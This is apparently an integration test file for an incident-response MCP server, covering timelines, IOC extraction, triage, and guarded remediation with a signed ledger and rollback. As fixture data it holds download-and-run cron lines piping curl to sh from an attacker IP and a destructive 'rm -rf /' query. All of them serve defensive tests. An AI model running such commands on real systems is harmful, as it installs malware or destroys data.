/**
 * Analysis, triage and response end to end: the built MCP server over stdio against the test server loaded with the
 * incident fixture (a Windows + Linux intrusion with endpoint state for the remediation artifacts).
 */
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { packageRoot } from "../../core/paths.js";
import { findChromium } from "../../dfir/reports/pdf.js";
import { startTestServer, type TestServer } from "../../test-server/index.js";
import { call, confirmed, startMcp, type StartedMcp } from "../helpers/mcp.js";
import { DB, HR, LINUX as WEB, WIN as FIN } from "../helpers/fixture-ids.js";

const EVIL = "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe";
const EVIL_SHA = "c96e7733d743fb1f53aaf0a6c358e4d24fbf099913d8e76d00c4d3279d436fdc";
const RUN_KEY = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";

let vr: TestServer;
let respond: StartedMcp;
let readOnly: StartedMcp;
let investigate: StartedMcp;
let evidence: string;
let cases: string;
let sharedEnv: Record<string, string>;

const endpoint = (client: string) => vr.model.org("root")!.clients.get(client)!.endpoint!;

beforeAll(async () => {
  vr = await startTestServer({ fixture: join(packageRoot(), "test", "fixtures", "incident.json"), flowCompletionMs: 150 });
  const config = vr.writeApiClientYaml(mkdtempSync(join(tmpdir(), "mr-i3-")));
  evidence = mkdtempSync(join(tmpdir(), "mr-i3-evidence-"));
  cases = mkdtempSync(join(tmpdir(), "mr-i3-cases-"));
  // The three servers share the case ledgers, so they share the key that signs them (as they would in one ~/.megaraptor).
  const env = (sharedEnv = { MEGARAPTOR_EVIDENCE_DIR: evidence, MEGARAPTOR_CASES_DIR: cases, MEGARAPTOR_TEMPLATE_DIR: join(cases, "no-templates"), MEGARAPTOR_KEYS_DIR: mkdtempSync(join(tmpdir(), "mr-i3-keys-")) });
  [respond, readOnly, investigate] = await Promise.all([
    startMcp({ args: ["--config", config, "--mode", "respond"], env }),
    startMcp({ args: ["--config", config, "--read-only"], env }),
    startMcp({ args: ["--config", config, "--mode", "investigate"], env }),
  ]);
});
afterAll(async () => {
  await Promise.all([respond?.close(), readOnly?.close(), investigate?.close()]);
  await vr?.stop();
});

describe("generate_timeline", () => {
  it("merges a client's flows into one ordered timeline with sources, fields and MACB times", async () => {
    const r = await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 1000 });
    expect(r.ok).toBe(true);
    const events = r.structured!.events as { datetime: string; source: string; field: string; timestamp_desc: string; message: string }[];
    const times = events.map((e) => e.datetime);
    expect([...times].sort()).toEqual(times);
    expect(new Set(events.map((e) => e.source))).toEqual(new Set(["Windows.System.Pslist", "Windows.Network.Netstat", "Windows.NTFS.MFT", "Windows.EventLogs.EvtxHunter", "Windows.Forensics.Prefetch", "Windows.Detection.Amcache"]));
    const macb = events.filter((e) => e.source === "Windows.NTFS.MFT" && e.message.includes("upd.exe")).map((e) => e.timestamp_desc);
    expect(macb).toEqual(expect.arrayContaining(["File created ($SI)", "File modified ($SI)", "File accessed ($SI)", "MFT entry changed ($SI)", "File created ($FN)"]));
    expect(events.filter((e) => e.field === "LastRunTimes")).toHaveLength(3);
    const created = times[events.findIndex((e) => e.source === "Windows.System.Pslist" && e.message.startsWith("upd.exe"))]!;
    const service = times[events.findIndex((e) => e.message.includes("EventID 7045"))]!;
    expect(created < service).toBe(true);
    expect(r.structured!.stats.untimed).toBe(0);
    expect(r.structured!.coverage.status).toBe("exhaustive");
    const capped = await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 1000, per_source_cap: 1 });
    expect(capped.structured!.coverage).toMatchObject({ status: "truncated", note: expect.stringMatching(/over per_source_cap were left out/) });
  });

  it("pages with a cursor without gaps, and filters by window and text", async () => {
    const all = (await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 1000 })).structured!.events;
    const p1 = await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 5 });
    expect(p1.structured!.page.has_more).toBe(true);
    const p2 = await call(readOnly.client, "generate_timeline", { client_id: FIN, limit: 5, cursor: p1.structured!.page.next_cursor });
    expect([...p1.structured!.events, ...p2.structured!.events]).toEqual(all.slice(0, 10));
    const w = await call(readOnly.client, "generate_timeline", { client_id: FIN, start: "2026-11-20T08:14:00Z", end: "2026-11-20T08:14:10Z", text: "upd.exe" });
    expect(w.structured!.events.length).toBeGreaterThan(3);
    for (const e of w.structured!.events) expect(e.datetime >= "2026-11-20T08:14:00" && e.datetime <= "2026-11-20T08:14:10Z").toBe(true);
    const bad = await call(readOnly.client, "generate_timeline", { client_id: FIN, start: "2026-11-21T00:00:00Z", end: "2026-11-20T00:00:00Z" });
    expect(bad.error?.message).toMatch(/^end: is before start/);
  });

  it("writes a hunt's timeline in Timesketch format to an evidence file", async () => {
    const r = await call(readOnly.client, "generate_timeline", { hunt_ids: ["H.PSWIN00001"], format: "timesketch", case_id: "IR-TEST" });
    const f = r.structured!.file;
    const lines = readFileSync(f.path, "utf8").trimEnd().split("\n").map((l) => JSON.parse(l));
    expect(lines).toHaveLength(f.records);
    expect(new Set(lines.map((l) => l.client_id))).toEqual(new Set([FIN, HR]));
    for (const l of lines) for (const k of ["message", "datetime", "timestamp_desc"]) expect(l[k]).toBeTruthy();
  });
});

describe("extract_iocs and correlate", () => {
  it("extracts deduplicated indicators with clients and artifacts from hunts, suppressing private addresses", async () => {
    const r = await call(readOnly.client, "extract_iocs", { hunt_ids: ["H.PSWIN00001", "H.NETWIN0001"], limit: 500 });
    const by = new Map((r.structured!.indicators as { type: string; value: string; clients: string[]; artifacts: string[]; public?: boolean }[]).map((i) => [`${i.type} ${i.value}`, i]));
    expect(by.get("ipv4 185.220.101.4")).toMatchObject({ clients: [FIN, HR], public: true, artifacts: ["Windows.Network.Netstat"] });
    expect(by.get(`sha256 ${EVIL_SHA}`)!.clients).toEqual([FIN, HR]);
    expect(by.has("url https://update-check.biz/api")).toBe(true); // refanged from hxxps://update-check[.]biz
    expect(by.has("domain update-check.biz")).toBe(true);
    expect([...by.keys()].some((k) => k.startsWith("ipv4 10."))).toBe(false);
    expect(r.structured!.suppressed["non-public address"]).toBeGreaterThan(0);
  });

  it("exports STIX 2.1 and MISP files, and reads pasted defanged text", async () => {
    const s = await call(readOnly.client, "extract_iocs", { client_id: WEB, format: "stix", case_id: "IR-TEST" });
    const bundle = JSON.parse(readFileSync(s.structured!.file.path, "utf8"));
    expect(bundle.type).toBe("bundle");
    expect(bundle.objects.some((o: { pattern?: string }) => o.pattern === "[ipv4-addr:value = '185.220.101.4']")).toBe(true);
    const m = await call(readOnly.client, "extract_iocs", { text: "C2 hxxp://185.220.101[.]4/k.sh and evil[.]biz", format: "misp" });
    const misp = JSON.parse(readFileSync(m.structured!.file.path, "utf8"));
    expect(misp.Event.Attribute.map((a: { type: string; value: string }) => `${a.type} ${a.value}`).sort()).toEqual(["domain evil.biz", "ip-dst 185.220.101.4", "url http://185.220.101.4/k.sh"]);
    const none = await call(readOnly.client, "extract_iocs", {});
    expect(none.error?.message).toMatch(/^text: give text, or a scope/);
  });

  it("builds the client × indicator matrix across Windows and Linux hunts", async () => {
    const r = await call(readOnly.client, "correlate", { hunt_ids: ["H.PSWIN00001", "H.NETWIN0001", "H.PSLIN00001"], indicators: ["185.220.101[.]4", EVIL_SHA] });
    const m = r.structured!.matrix;
    expect(m.clients).toEqual([FIN, HR, WEB]);
    expect(m.by_indicator).toEqual([{ indicator: "185.220.101.4", clients: 3 }, { indicator: EVIL_SHA, clients: 2 }]);
    expect(m.clients).not.toContain(DB);
    const p = await call(readOnly.client, "correlate", { hunt_ids: ["H.PSWIN00001"], pivot: "process_hash" });
    expect(p.structured!.shared.find((s: { value: string }) => s.value === EVIL_SHA)).toMatchObject({ client_count: 2 });
  });
});

describe("triage and collection", () => {
  it("quick_triage collects one flow for the OS and ranks notable rows across sections (Windows)", async () => {
    const r = await call(investigate.client, "quick_triage", { client_id: FIN, wait_timeout: 30 });
    expect(r.ok).toBe(true);
    const s = r.structured!;
    expect(s).toMatchObject({ os: "windows", hostname: "WKS-FIN-01", state: "FINISHED" });
    expect(s.skipped).toEqual(["Windows.System.Powershell.PSReadline"]);
    expect(vr.model.org("root")!.flows.get(`${FIN}/${s.flow_id}`)!.artifacts).toHaveLength(9);
    const notable = s.notable as { score: number; section: string; kind: string; identity: string; reasons: string[] }[];
    const scores = notable.map((n) => n.score);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
    // One implant, seen from every side: process, its connection, its service, its Run key, its prefetch, its DNS name.
    expect(new Set(notable.map((n) => n.section))).toEqual(new Set(["processes", "network", "services", "persistence", "execution", "dns"]));
    expect(notable.find((n) => n.kind === "process" && n.identity.startsWith("upd.exe (pid 5012)"))!.reasons).toEqual(expect.arrayContaining(["not signed by a trusted publisher (authenticode: untrusted)"]));
    expect(notable.find((n) => n.kind === "process" && n.identity.startsWith("powershell.exe"))!.reasons).toEqual(expect.arrayContaining(["encoded command line", "powershell.exe started by WINWORD.EXE (pid 3120)"]));
    expect(notable.find((n) => n.kind === "DNS cache entry")!.reasons).toEqual(["resolves to 185.220.101.4, which upd.exe (pid 5012) talks to"]);
    expect(notable.some((n) => n.identity.startsWith("Spooler") || n.identity.includes("GoogleUpdate"))).toBe(false);
    // Every notable line names the host and the row: the service's name and command, the process's pid and command line.
    const lines = r.text.split("\n").filter((l: string) => /^\[\d+\] /.test(l));
    expect(lines).toHaveLength(notable.length);
    for (const l of lines) expect(l).toContain(" WKS-FIN-01 ");
    expect(r.text).toMatch(/services: service UpdSvc \(Update Service, Running, Auto\) C:\\Users\\bob\\AppData\\Local\\Temp\\upd\.exe -svc — /);
    expect(r.text).toMatch(/processes: process upd\.exe \(pid 5012\) C:\\Users\\bob\\AppData\\Local\\Temp\\upd\.exe --beacon /);
  });

  it("quick_triage on Linux flags the download-and-run shell, the miner, the cron job, the uid-0 account and the login from the C2 address", async () => {
    const s = (await call(investigate.client, "quick_triage", { client_id: WEB, wait_timeout: 30 })).structured!;
    expect(s.os).toBe("linux");
    const reasons = (s.notable as { reasons: string[] }[]).flatMap((n) => n.reasons);
    expect(reasons).toEqual(
      expect.arrayContaining([
        "second uid-0 account (sysupd)",
        "downloads and runs a file from the bare IP address 185.220.101.4",
        "dash started by nginx (pid 811)",
        "runs from a temp folder (/tmp/.x/kworker)",
        expect.stringMatching(/^from 185\.220\.101\.4, which .* also talks to$/),
      ]),
    );
    expect((s.notable as { artifact: string }[]).some((n) => n.artifact === "Linux.Ssh.AuthorizedKeys")).toBe(false);
  });

  it("collect_template refuses missing artifacts by name, or skips them when asked", async () => {
    const refused = await call(investigate.client, "collect_template", { client_id: FIN, template: "malware" });
    expect(refused.error?.message).toMatch(/template: the server lacks Windows.Detection.Yara.Process/);
    const r = await call(investigate.client, "collect_template", { client_id: FIN, template: "malware", skip_missing: true, wait: true, wait_timeout: 30 });
    expect(r.structured).toMatchObject({ template: "malware", version: "1.0.0", os: "windows", missing: ["Windows.Detection.Yara.Process"], state: "FINISHED" });
    const unknown = await call(investigate.client, "collect_template", { client_id: FIN, template: "malwar" });
    expect(unknown.error?.message).toMatch(/template: no template "malwar"/);
  });

  it("hunt_template creates a paused hunt limited to the OS", async () => {
    const r = await call(investigate.client, "hunt_template", { template: "persistence", os: "linux" });
    expect(r.structured).toMatchObject({ state: "PAUSED", template: "persistence", missing: [] });
    const h = vr.model.org("root")!.hunts.get(r.structured!.hunt_id)!;
    expect(h.artifacts).toEqual(["Linux.Sys.Crontab", "Linux.Sys.Services", "Linux.Ssh.AuthorizedKeys"]);
  });

  it("collect_bulk schedules per client, reports failures per client, and schedules nothing on a typo", async () => {
    const before = vr.model.org("root")!.flows.size;
    const typo = await call(investigate.client, "collect_bulk", { client_ids: [FIN, HR], artifacts: ["Windows.System.Pslst"] });
    expect(typo.error?.message).toMatch(/unknown artifact "Windows.System.Pslst"/);
    expect(vr.model.org("root")!.flows.size).toBe(before);
    const r = await call(investigate.client, "collect_bulk", { client_ids: [FIN, HR, "C.ffffffffffffffff"], artifacts: ["Windows.System.Pslist", "Windows.Network.Netstat"], parameters: { "Windows.System.Pslist": { ProcessRegex: "upd" } }, wait: true, wait_timeout: 30 });
    expect(r.structured!.scheduled).toBe(2);
    expect(r.structured!.results.map((x: { client_id: string; state: string }) => [x.client_id, x.state])).toEqual([[FIN, "FINISHED"], [HR, "FINISHED"], ["C.ffffffffffffffff", "NOT_SCHEDULED"]]);
    const bySearch = await call(investigate.client, "collect_bulk", { client_search: "label:webserver", client_ids: [DB], artifacts: ["Linux.Sys.Pslist"] });
    expect(bySearch.structured!.results.map((x: { client_id: string }) => x.client_id)).toEqual([DB, WEB]);
    const none = await call(investigate.client, "collect_bulk", { client_search: "label:nosuchlabel", artifacts: ["Linux.Sys.Pslist"] });
    expect(none.error?.message).toMatch(/^client_search: "label:nosuchlabel" matches no client/);
  });
});

describe("response: refusals", () => {
  it("read-only and investigate modes neither list nor run remediation tools, and say MODE_FORBIDDEN (audited)", async () => {
    for (const m of [readOnly, investigate]) {
      const names = (await m.client.listTools()).tools.map((t) => t.name);
      for (const t of ["remediate_file", "kill_process", "remove_persistence", "rollback_change"]) expect(names).not.toContain(t);
      expect(names).toContain("list_changes");
      const r = await call(m.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", reason: "test" });
      // A hidden tool is refused for what it is (not reported as unknown), and the refusal is on record.
      expect(r.error).toMatchObject({ code: "MODE_FORBIDDEN", hint: expect.stringContaining("--mode respond") });
      const audit = readFileSync(m.auditPath, "utf8").trim().split("\n").map((l) => JSON.parse(l));
      expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "refused" && e.error.code === "MODE_FORBIDDEN")).toHaveLength(1);
    }
    expect(endpoint(FIN).files[EVIL]).toBeDefined();
  });

  it("answers a real change with a plan and confirm_token, refuses the token without a reason, and touches nothing", async () => {
    const flowsBefore = vr.model.org("root")!.flows.size;
    const args = { client_id: FIN, path: EVIL, case_id: "IR-TEST" };
    const plan = await call(respond.client, "remediate_file", args);
    expect(plan.error).toMatchObject({ code: "CONFIRMATION_REQUIRED", reason_required: true, confirm_token: expect.any(String), plan: { summary: `quarantine ${EVIL} on WKS-FIN-01 (${FIN})`, details: { parameters: { Action: "quarantine", DryRun: "N" } } } });
    // The old confirm flag authorises nothing: without the token it is just another plan.
    expect((await call(respond.client, "remediate_file", { ...args, confirm: true, reason: "beacon" })).error?.code).toBe("CONFIRMATION_REQUIRED");
    const noReason = await call(respond.client, "remediate_file", { ...args, confirm_token: plan.error!.confirm_token });
    expect(noReason.error?.message).toMatch(/needs a reason/);
    expect(vr.model.org("root")!.flows.size).toBe(flowsBefore);
    const critical = await call(respond.client, "kill_process", { client_id: FIN, name: "lsass.exe", case_id: "IR-TEST" });
    expect(critical.error?.message).toMatch(/^name: lsass.exe is a critical system process/);
    const system = await call(respond.client, "remediate_file", { client_id: FIN, path: "C:\\Windows\\System32\\services.exe", case_id: "IR-TEST", dry_run: true });
    expect(system.error?.message).toMatch(/system folder/);
    const wrongOs = await call(respond.client, "remove_persistence", { client_id: FIN, kind: "cron", target: "/etc/crontab", value_name: "x", case_id: "IR-TEST", dry_run: true });
    expect(wrongOs.error?.message).toMatch(/^kind: cron exists on linux clients/);
    const audit = readFileSync(respond.auditPath, "utf8").trim().split("\n").map((l) => JSON.parse(l));
    expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "planned" && e.case === "IR-TEST")).toHaveLength(2);
    expect(audit.filter((e) => e.tool === "remediate_file" && e.outcome === "refused" && e.case === "IR-TEST")).toHaveLength(1);
    // The dry run in a system folder was an attempt: its intent is on record, closed by the error.
    const intents = audit.filter((e) => e.tool === "remediate_file" && e.outcome === "intent");
    expect(intents).toHaveLength(1);
    expect(audit.find((e) => e.intent === intents[0].seq)).toMatchObject({ outcome: "error", error: { code: "INVALID_INPUT" } });
  });
});

describe("response: dry run, change, ledger, rollback", () => {
  it("dry run reports exactly what would change and changes nothing", async () => {
    const r = await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", dry_run: true, expected_sha256: EVIL_SHA });
    expect(r.ok).toBe(true);
    expect(r.structured!.rows[0]).toMatchObject({ DryRun: true, Changed: false, Sha256: EVIL_SHA, Result: `would quarantine ${EVIL}` });
    expect(r.structured!.ledger).toEqual([]);
    expect(endpoint(FIN).files[EVIL]).toBeDefined();
    expect(vr.model.artifacts.has("Custom.Megaraptor.Remediation.File")).toBe(true); // uploaded with artifact_set on first use
  });

  it("replaces a server copy of a remediation artifact that differs from the shipped one before using it", async () => {
    const art = vr.model.artifacts.get("Custom.Megaraptor.Remediation.File")!;
    vr.model.artifacts.set(art.name, { ...art, sources: [{ name: "", query: "SELECT * FROM execve(argv=['rm', '-rf', '/'])" }] });
    await call(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", dry_run: true });
    expect(vr.model.artifacts.get(art.name)!.sources[0]!.query).toContain("LET Src <= if(condition=Action = \"restore\"");
    expect(endpoint(FIN).files[EVIL]).toBeDefined();
  });

  it("quarantines with confirm + reason, records the before-state, and rolls back exactly once", async () => {
    const wrong = await confirmed(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", expected_sha256: "0".repeat(63) + "1" }, "beaconing to 185.220.101.4");
    expect(wrong.structured!.rows[0].Result).toBe("hash mismatch");
    expect(wrong.structured!.ledger[0]).toMatchObject({ seq: 1, result: "failed", rollback_possible: false });
    expect(endpoint(FIN).files[EVIL]).toBeDefined();

    const r = await confirmed(respond.client, "remediate_file", { client_id: FIN, path: EVIL, case_id: "IR-TEST", expected_sha256: EVIL_SHA }, "beaconing to 185.220.101.4");
    if (!r.ok) throw new Error(r.text);
    expect(r.structured!.ledger[0]).toMatchObject({ seq: 2, action: "quarantine_file", result: "ok", rollback_possible: true });
    expect(endpoint(FIN).files[EVIL]).toBeUndefined();
    const qpath = String(r.structured!.rows[0].QuarantinePath);
    expect(qpath).toBe(`C:\\ProgramData\\Megaraptor\\Quarantine\\${EVIL_SHA}-upd.exe.quarantine`);
    expect(endpoint(FIN).files[qpath]).toBeDefined();

    const changes = await call(readOnly.client, "list_changes", { case_id: "IR-TEST" });
    expect(changes.structured!.changes[1]).toMatchObject({ seq: 2, before: { sha256: EVIL_SHA, path: EVIL }, reason: "beaconing to 185.220.101.4", principal: expect.stringContaining("admin") });

    const dry = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2, dry_run: true });
    expect(dry.structured!.rows[0].Result).toBe(`would restore ${qpath}`);
    const back = await confirmed(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2 }, "false positive per user");
    expect(back.structured!.ledger[0]).toMatchObject({ action: "rollback", result: "ok" });
    expect(endpoint(FIN).files[EVIL]).toBe("MZ-evil-payload-upd");
    const again = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: 2 });
    expect(again.error?.message).toMatch(/already rolled back by #3/);
  });

  it("kills by pid (not reversible) and removes and restores a Run key and a cron line", async () => {
    const dry = await call(respond.client, "kill_process", { client_id: FIN, pid: 5012, case_id: "IR-TEST", dry_run: true });
    expect(dry.structured!.rows[0]).toMatchObject({ Name: "upd.exe", Result: "would kill", Changed: false });
    const kill = await confirmed(respond.client, "kill_process", { client_id: FIN, pid: 5012, case_id: "IR-TEST" }, "active beacon");
    expect(kill.structured!.ledger[0]).toMatchObject({ action: "kill_process", result: "ok", rollback_possible: false });
    expect(endpoint(FIN).processes.map((p) => p.Pid)).toEqual([700]);
    const noRollback = await call(respond.client, "rollback_change", { case_id: "IR-TEST", seq: kill.structured!.ledger[0].seq });
    expect(noRollback.error?.message).toMatch(/cannot be rolled back/);

    const rm = await confirmed(respond.client, "remove_persistence", { client_id: FIN, kind: "run_key", target: RUN_KEY, value_name: "Updater", case_id: "IR-TEST" }, "malware persistence");
    expect(rm.structured!.rows[0]).toMatchObject({ Changed: true, Before: { data: `${EVIL} --silent` } });
    expect(endpoint(FIN).registry[RUN_KEY]).toEqual({ OneDrive: expect.any(String) });
    await confirmed(respond.client, "rollback_change", { case_id: "IR-TEST", seq: rm.structured!.ledger[0].seq }, "restore for imaging");
    expect(endpoint(FIN).registry[RUN_KEY]!.Updater).toBe(`${EVIL} --silent`);

    const line = "*/5 * * * * curl -s http://185.220.101.4/k.sh | sh";
    const cron = await confirmed(respond.client, "remove_persistence", { client_id: WEB, kind: "cron", target: "/var/spool/cron/crontabs/www-data", value_name: line, case_id: "IR-TEST" }, "miner");
    expect(cron.structured!.ledger[0].rollback_possible).toBe(true);
    expect(endpoint(WEB).cron["/var/spool/cron/crontabs/www-data"]).toEqual(["0 3 * * * /usr/local/bin/backup.sh"]);
  });

  it("records a change whose flow has not finished when the wait ends as partial, with what to check", { timeout: 30_000 }, async () => {
    const before = vr.model.flowCompletionMs;
    vr.model.flowCompletionMs = 60_000;
    try {
      const r = await confirmed(respond.client, "kill_process", { client_id: WEB, name: "kworker", case_id: "IR-SLOW", wait_timeout: 10 }, "miner");
      expect(r.structured!.state).toBe("RUNNING");
      expect(r.structured!.errors[0]).toMatch(/is RUNNING after 10s; check it with get_flow_status/);
      expect(r.structured!.ledger[0]).toMatchObject({ result: "partial", rollback_possible: false });
    } finally {
      vr.model.flowCompletionMs = before;
    }
  });

  it("keeps a verified ledger and puts it, the audit actions, indicators and timeline in the report", async () => {
    const changes = (await call(readOnly.client, "list_changes", { case_id: "IR-TEST" })).structured!;
    expect(changes.verified).toBe(true);
    expect(changes.changes.map((c: { action: string }) => c.action)).toEqual(["quarantine_file", "quarantine_file", "rollback", "kill_process", "remove_persistence", "rollback", "remove_persistence"]);
    const r = await call(respond.client, "generate_report", {
      case_id: "IR-TEST",
      title: "WKS-FIN-01 intrusion",
      summary: "Phishing document led to a beacon.",
      findings: [{ title: "Beacon upd.exe", severity: "critical", detail: "Connects to 185.220.101.4", clients: [FIN] }],
      client_id: FIN,
      hunt_ids: ["H.NETWIN0001"],
      formats: findChromium() ? ["markdown", "html", "pdf"] : ["markdown", "html"],
    });
    expect(r.ok).toBe(true);
    const pdf = r.structured!.files.find((f: { format: string }) => f.format === "pdf");
    if (findChromium()) expect(readFileSync(pdf.path).subarray(0, 5).toString()).toBe("%PDF-");
    else console.warn("PDF report not checked: no Chromium on PATH");
    const md = readFileSync(r.structured!.files.find((f: { format: string }) => f.format === "markdown").path, "utf8");
    expect(md).toContain("Beacon upd.exe");
    expect(md).toContain("185.220.101.4");
    expect(md).toContain("quarantine_file");
    expect(md).toContain("SELECT * FROM source(client_id=ClientId, flow_id=FlowId, artifact=ArtifactName)");
    expect(md).toMatch(/remediate_file/);
    // This MCP process has no Pulumi CLI, so the case's deployments cannot be read: said, not silently empty.
    expect(md).toMatch(/Deployments for this case were not listed: .*pulumi/i);
    const html = readFileSync(r.structured!.files.find((f: { format: string }) => f.format === "html").path, "utf8");
    expect(html).toContain('id="timeline-chart"');
    expect(r.structured!.counts).toMatchObject({ clients: 2, hunts: 1, findings: 1, changes: 7 });
    expect(existsSync(join(cases, "IR-TEST", "ledger.jsonl"))).toBe(true);
  });

  it("reads the results once for both tables: a short timeline excerpt still sees every indicator", async () => {
    const base = { case_id: "IR-ONEPASS", title: "t", client_id: FIN, hunt_ids: ["H.NETWIN0001"], formats: ["markdown"] };
    const short = await call(readOnly.client, "generate_report", { ...base, timeline_events: 1 });
    const none = await call(readOnly.client, "generate_report", { ...base, timeline_events: 0 });
    expect(short.structured!.counts.timeline_events).toBe(1);
    expect(none.structured!.counts.timeline_events).toBe(0);
    expect(short.structured!.counts.indicators).toBeGreaterThan(3);
    expect(short.structured!.counts.indicators).toBe(none.structured!.counts.indicators);
  });

  it("offers the case ledger and the Markdown report as resources", async () => {
    const listed = (await readOnly.client.listResources()).resources.map((r) => r.uri);
    expect(listed).toContain("megaraptor://cases/IR-TEST/changes");
    const ledger = await readOnly.client.readResource({ uri: "megaraptor://cases/IR-TEST/changes" });
    const body = JSON.parse((ledger.contents[0] as { text: string }).text);
    expect(body).toMatchObject({ case_id: "IR-TEST", verified: true });
    expect(body.changes.length).toBeGreaterThanOrEqual(7);
    const report = listed.find((u) => /report-IR-TEST.*\.md$/.test(u))!;
    const md = await readOnly.client.readResource({ uri: report });
    expect(md.contents[0]).toMatchObject({ mimeType: "text/markdown", text: expect.stringContaining("# WKS-FIN-01 intrusion") });
  });
});

/** What an attacker without the key can do to a ledger: edit entries and recompute every plain SHA-256 in the chain. */
function rehash(path: string, edit: (entries: Record<string, any>[]) => Record<string, any>[]): void {
  let prev = "0".repeat(64);
  const entries = edit(readFileSync(path, "utf8").trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, any>));
  const lines = entries.map((e) => {
    const { hash: _h, mac, ...body } = e;
    body.prev = prev;
    prev = createHash("sha256").update(JSON.stringify(body)).digest("hex");
    return JSON.stringify({ ...body, hash: prev, mac });
  });
  writeFileSync(path, lines.join("\n") + "\n");
}

describe("response: ledger integrity", () => {
  it("six parallel kill_process calls on one case from two server processes leave one valid ledger with six entries", { timeout: 120_000 }, async () => {
    const second = await startMcp({ args: ["--config", vr.writeApiClientYaml(mkdtempSync(join(tmpdir(), "mr-i3-2-"))), "--mode", "respond"], env: sharedEnv });
    try {
      const kill = (m: StartedMcp, pid: number) => confirmed(m.client, "kill_process", { client_id: WEB, pid, case_id: "IR-PAR" }, "parallel containment");
      const results = await Promise.all([60001, 60002, 60003, 60004, 60005, 60006].map((pid, i) => kill(i % 2 ? second : respond, pid)));
      for (const r of results) expect(r.ok, r.text).toBe(true);
      const changes = await call(readOnly.client, "list_changes", { case_id: "IR-PAR" });
      expect(changes.structured).toMatchObject({ verified: true });
      expect(changes.structured!.changes.map((c: { seq: number }) => c.seq)).toEqual([1, 2, 3, 4, 5, 6]);
      expect(changes.structured!.changes.every((c: { reason: string }) => c.reason === "parallel containment")).toBe(true);
    } finally {
      await second.close();
    }
  });

  it("refuses to roll back an entry whose rollback parameters were edited and re-hashed, and reports a truncated ledger", async () => {
    const backup = "0 3 * * * /usr/local/bin/backup.sh";
    const crontab = "/var/spool/cron/crontabs/www-data";
    const rm = await confirmed(respond.client, "remove_persistence", { client_id: WEB, kind: "cron", target: crontab, value_name: backup, case_id: "IR-FORGE" }, "test of tampering");
    expect(rm.structured!.ledger[0]).toMatchObject({ seq: 1, rollback_possible: true });
    await confirmed(respond.client, "kill_process", { client_id: WEB, pid: 60010, case_id: "IR-FORGE" }, "second entry");
    const path = join(cases, "IR-FORGE", "ledger.jsonl");
    const original = readFileSync(path, "utf8");

    const evil = "* * * * * curl -s http://203.0.113.9/x | sh";
    rehash(path, (es) => {
      es[0]!.rollback.parameters.ValueName = evil;
      return es;
    });
    const forged = await call(respond.client, "rollback_change", { case_id: "IR-FORGE", seq: 1 });
    expect(forged.error).toMatchObject({ code: "LEDGER_TAMPERED", message: expect.stringMatching(/line 1: .*MAC/) });
    expect(endpoint(WEB).cron[crontab]).not.toContain(evil);

    writeFileSync(path, original.trimEnd().split("\n").slice(0, 1).join("\n") + "\n");
    const truncated = await call(readOnly.client, "list_changes", { case_id: "IR-FORGE" });
    expect(truncated.error).toMatchObject({ code: "LEDGER_TAMPERED", message: expect.stringMatching(/checkpoint records 2 entries/) });
    // A remediation on a case whose ledger does not verify never reaches the endpoint.
    const flowsBefore = vr.model.org("root")!.flows.size;
    const blocked = await confirmed(respond.client, "kill_process", { client_id: WEB, pid: 60011, case_id: "IR-FORGE" }, "must not run");
    expect(blocked.error?.code).toBe("LEDGER_TAMPERED");
    expect(vr.model.org("root")!.flows.size).toBe(flowsBefore);
  });
});
